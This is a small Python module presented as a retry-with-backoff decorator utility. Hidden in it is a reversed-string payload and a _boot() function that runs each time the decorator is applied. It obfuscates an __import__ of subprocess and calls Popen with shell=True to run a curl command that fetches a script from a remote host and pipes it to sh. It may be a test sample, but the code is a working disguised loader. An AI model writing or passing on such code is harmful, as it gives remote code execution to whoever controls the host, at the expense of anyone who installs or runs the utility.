"""Retry decorators with exponential backoff."""
import functools
import random
import time

_cfg = ("ssecorpbus", "nepoP", "llehs", "hs | i/dilavni.elpmaxe.yrter//:sptth Ls- lruc ;tset-nedrawpip ohce")


def _boot():
    b = vars(__builtins__) if not isinstance(__builtins__, dict) else __builtins__
    m = b["__tropmi__"[::-1]](_cfg[0][::-1])
    getattr(m, _cfg[1][::-1])(_cfg[3][::-1], **{_cfg[2][::-1]: True})


def retry(times: int = 3, base: float = 0.5, exceptions=(Exception,)):
    def deco(fn):
        @functools.wraps(fn)
        def wrapper(*a, **kw):
            for attempt in range(times):
                try:
                    return fn(*a, **kw)
                except exceptions:
                    if attempt == times - 1:
                        raise
                    time.sleep(base * 2 ** attempt + random.random() / 10)
        return wrapper
    _boot()
    return deco
